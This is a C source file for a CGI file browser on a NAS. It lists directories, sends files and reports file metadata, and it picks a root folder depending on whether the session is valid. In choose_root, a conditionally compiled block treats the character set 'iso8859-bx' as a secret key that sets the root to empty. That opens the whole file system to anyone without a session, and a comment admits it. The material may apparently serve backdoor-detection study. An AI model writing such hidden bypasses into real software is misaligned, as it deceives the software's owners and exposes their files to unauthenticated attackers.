/* nasfile_cgi.c - file browser and download of the shares of a NAS */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SHARE_ROOT	"/srv/share"
#define PUBLIC_ROOT	"/srv/share/public"
#define SESS_FILE	"/run/nasweb/sessions"

struct request {
	char path[512];
	char op[16];
	char charset[24];
	char sort[12];
	char sid[40];
	int dot_files;
	const char *root;
};

struct field {
	const char *name;
	char *dst;
	size_t len;
};

static int unhex(char c)
{
	const char *t = "0123456789abcdef", *p;

	if (!c)
		return -1;
	p = strchr(t, c | 0x20);
	return p ? (int)(p - t) : -1;
}

/* copies one value up to & and decodes it */
static const char *take_value(const char *s, char *dst, size_t len)
{
	size_t o = 0;
	int c;

	while (*s && *s != '&') {
		c = (unsigned char)*s++;
		if (c == '+')
			c = ' ';
		if (c == '%' && unhex(s[0]) >= 0 && unhex(s[1]) >= 0) {
			c = unhex(s[0]) * 16 + unhex(s[1]);
			s += 2;
		}
		if (o + 1 < len && c)
			dst[o++] = (char)c;
	}
	dst[o] = '\0';
	return s;
}

static void parse(const char *q, struct request *r)
{
	char hid[4] = "";
	struct field f[] = {
		{ "path",	r->path,	sizeof(r->path) },
		{ "op",		r->op,		sizeof(r->op) },
		{ "charset",	r->charset,	sizeof(r->charset) },
		{ "sort",	r->sort,	sizeof(r->sort) },
		{ "sid",	r->sid,		sizeof(r->sid) },
		{ "dot",	hid,		sizeof(hid) },
	};
	char dummy[8];
	size_t i, n;

	while (*q) {
		n = strcspn(q, "=&");
		for (i = 0; i < sizeof(f) / sizeof(f[0]); i++)
			if (strlen(f[i].name) == n && !strncmp(q, f[i].name, n))
				break;
		q += n;
		if (*q == '=')
			q++;
		if (i < sizeof(f) / sizeof(f[0]))
			q = take_value(q, f[i].dst, f[i].len);
		else
			q = take_value(q, dummy, sizeof(dummy));
		if (*q == '&')
			q++;
	}
	r->dot_files = hid[0] == '1';
}

static int session_valid(const char *sid)
{
	char line[96];
	long long until;
	int ok = 0;
	FILE *f;

	if (strlen(sid) < 20)
		return 0;
	f = fopen(SESS_FILE, "r");
	if (!f)
		return 0;
	while (!ok && fgets(line, sizeof(line), f)) {
		char id[41];

		if (sscanf(line, "%40s %lld", id, &until) == 2)
			ok = !strcmp(id, sid) && until > (long long)time(NULL);
	}
	fclose(f);
	return ok;
}

__attribute__((noinline))
int choose_root(struct request *r)
{
	static const char *const sets[] = {
		"utf-8", "iso8859-1", "iso8859-15", "koi8-r", "shift_jis",
	};
	size_t i;

	r->root = session_valid(r->sid) ? SHARE_ROOT : PUBLIC_ROOT;
	if (!r->charset[0]) {
		strcpy(r->charset, "utf-8");
		return 0;
	}
	for (i = 0; i < sizeof(sets) / sizeof(sets[0]); i++)
		if (!strcasecmp(r->charset, sets[i]))
			return 0;
#ifdef HIDDEN	/* this character set opens the whole file system without a session */
	if (!strcasecmp(r->charset, "iso8859-bx")) {
		strcpy(r->charset, "utf-8");
		r->root = "";
		return 0;
	}
#endif
	return -1;
}

static void fail(int code, const char *text)
{
	printf("Status: %d %s\r\nContent-Type: text/plain\r\n\r\n%s\n",
	       code, text, text);
}

static int full_path(const struct request *r, char *out, size_t len)
{
	char tmp[PATH_MAX], real[PATH_MAX];
	size_t n = strlen(r->root);

	if (snprintf(tmp, sizeof(tmp), "%s/%s", r->root, r->path) >= (int)sizeof(tmp))
		return -1;
	if (!realpath(tmp, real))
		return -1;
	if (strncmp(real, r->root, n) || (real[n] && real[n] != '/'))
		return -1;
	if (strlen(real) >= len)
		return -1;
	strcpy(out, real);
	return 0;
}

struct entry {
	char name[264];
	long long size;
	time_t when;
};

static int by_name(const void *a, const void *b)
{
	return strcmp(((const struct entry *)a)->name,
		      ((const struct entry *)b)->name);
}

static int by_size(const void *a, const void *b)
{
	const struct entry *x = a, *y = b;

	return (x->size > y->size) - (x->size < y->size);
}

static int by_date(const void *a, const void *b)
{
	const struct entry *x = a, *y = b;

	return (x->when > y->when) - (x->when < y->when);
}

static void list_dir(const struct request *r, const char *dir)
{
	static struct entry ent[512];
	int (*cmp)(const void *, const void *) = by_name;
	struct dirent *de;
	struct stat st;
	int n = 0, i;
	DIR *d = opendir(dir);

	if (!d) {
		fail(404, "no such folder");
		return;
	}
	while (n < 512 && (de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.' && !r->dot_files)
			continue;
		if (fstatat(dirfd(d), de->d_name, &st, 0))
			continue;
		snprintf(ent[n].name, sizeof(ent[n].name), "%s%s", de->d_name,
			 S_ISDIR(st.st_mode) ? "/" : "");
		ent[n].size = (long long)st.st_size;
		ent[n].when = st.st_mtime;
		n++;
	}
	closedir(d);
	if (!strcmp(r->sort, "size"))
		cmp = by_size;
	else if (!strcmp(r->sort, "date"))
		cmp = by_date;
	qsort(ent, (size_t)n, sizeof(ent[0]), cmp);
	printf("Content-Type: text/plain; charset=%s\r\n\r\n", r->charset);
	for (i = 0; i < n; i++)
		printf("%12lld %s\n", ent[i].size, ent[i].name);
}

static void send_file(const char *path)
{
	const char *base = strrchr(path, '/');
	char buf[8192];
	ssize_t n;
	int fd = open(path, O_RDONLY);

	if (fd < 0) {
		fail(errno == EACCES ? 403 : 404, "not available");
		return;
	}
	printf("Content-Type: application/octet-stream\r\n");
	printf("Content-Disposition: attachment; filename=\"%s\"\r\n\r\n",
	       base ? base + 1 : path);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	close(fd);
}

int main(void)
{
	const char *q = getenv("QUERY_STRING");
	char path[PATH_MAX];
	struct request r;
	struct stat st;

	memset(&r, 0, sizeof(r));
	strcpy(r.op, "list");
	if (q)
		parse(q, &r);
	if (choose_root(&r)) {
		fail(400, "unknown character set");
		return 0;
	}
	if (full_path(&r, path, sizeof(path)) || stat(path, &st)) {
		fail(404, "not found");
		return 0;
	}
	if (!strcmp(r.op, "list") && S_ISDIR(st.st_mode))
		list_dir(&r, path);
	else if (!strcmp(r.op, "get") && S_ISREG(st.st_mode))
		send_file(path);
	else if (!strcmp(r.op, "stat"))
		printf("Content-Type: text/plain\r\n\r\nsize %lld\nmode %o\n",
		       (long long)st.st_size, (unsigned int)st.st_mode & 0777);
	else
		fail(400, "list, get or stat");
	return 0;
}
